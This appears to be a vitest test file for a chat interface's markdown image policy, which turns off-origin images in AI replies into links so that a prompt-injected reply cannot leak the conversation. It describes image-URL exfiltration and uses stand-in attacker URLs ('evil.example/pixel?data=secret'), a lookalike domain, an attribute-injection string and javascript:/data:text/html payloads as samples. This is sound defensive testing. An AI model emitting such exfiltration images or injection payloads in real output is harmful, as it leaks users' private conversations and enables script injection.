/**
 * A reply's images are fetched by the visitor's browser, so an image URL can carry the
 * conversation to anyone (prompt injection): only the page's own origin, the allowed
 * origins and safe data images are shown; every other image is a link.
 */
import { describe, expect, it } from 'vitest';
import { isImageAllowed } from '../../../src/ui/markdown/image-policy';
import { renderMarkdown } from '../../../src/ui/markdown/render';

function dom(html: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

const page = new URL(document.baseURI).origin;

describe('images from other origins', () => {
  it('become a link named by the alt text, with the link policy of every reply link, and no <img>', () => {
    const root = dom(renderMarkdown('See ![the chart](https://evil.example/pixel?data=secret "Chart") here'));
    expect(root.querySelector('img')).toBeNull();
    const link = root.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.example/pixel?data=secret');
    expect(link.textContent).toBe('the chart');
    expect(link.getAttribute('title')).toBe('Chart');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('are named by their URL when they have no alt text', () => {
    const link = dom(renderMarkdown('![](https://evil.example/a.png)')).querySelector('a')!;
    expect(link.textContent).toBe('https://evil.example/a.png');
  });

  it('include protocol-relative URLs, reference images and other ports of the page host', () => {
    const other = new URL(document.baseURI);
    other.port = other.port === '8123' ? '8124' : '8123';
    for (const source of [
      '![x](//evil.example/p.png)',
      '![x][ref]\n\n[ref]: https://evil.example/p.png',
      `![x](${other.origin}/p.png)`,
    ]) {
      const root = dom(renderMarkdown(source));
      expect(root.querySelector('img'), source).toBeNull();
      expect(root.querySelector('a')?.textContent, source).toBe('x');
    }
  });

  it('escape the alt text and the URL of the link', () => {
    const root = dom(renderMarkdown('![<b>"bold"</b>](https://evil.example/"onmouseover="x)'));
    expect(root.querySelector('b')).toBeNull();
    const link = root.querySelector('a')!;
    expect(link.textContent).toBe('<b>"bold"</b>');
    expect(link.getAttributeNames().sort()).toEqual(['href', 'rel', 'target']);
  });
});

describe('images that are shown', () => {
  it('are relative and same-origin images, without a referrer', () => {
    for (const src of ['/logo.png', 'img/logo.png', `${page}/logo.png`]) {
      const img = dom(renderMarkdown(`![logo](${src})`)).querySelector('img');
      expect(img?.getAttribute('alt'), src).toBe('logo');
      expect(img?.getAttribute('referrerpolicy'), src).toBe('no-referrer');
    }
  });

  it('are images from an allowed origin, and only that origin', () => {
    const options = { allowedImageOrigins: ['https://cdn.example.com'] };
    const root = dom(
      renderMarkdown('![a](https://cdn.example.com/a.png) ![b](https://cdn.example.com.evil.example/b.png)', options),
    );
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      'https://cdn.example.com/a.png',
    ]);
    expect(root.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://cdn.example.com.evil.example/b.png');
  });

  it('are data images of the safe types', () => {
    const img = dom(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)')).querySelector('img');
    expect(img?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});

describe('blocked schemes', () => {
  it('stay plain text: neither an image nor a link', () => {
    for (const source of ['![x](javascript:alert(1))', '![x](data:text/html;base64,PHNjcmlwdD4=)']) {
      const root = dom(renderMarkdown(source, { allowedImageOrigins: ['https://cdn.example.com'] }));
      expect(root.querySelector('img, a'), source).toBeNull();
    }
  });
});

describe('isImageAllowed', () => {
  it('refuses what does not parse as a URL', () => {
    expect(isImageAllowed('http://[bad', ['http://[bad'])).toBe(false);
  });
});
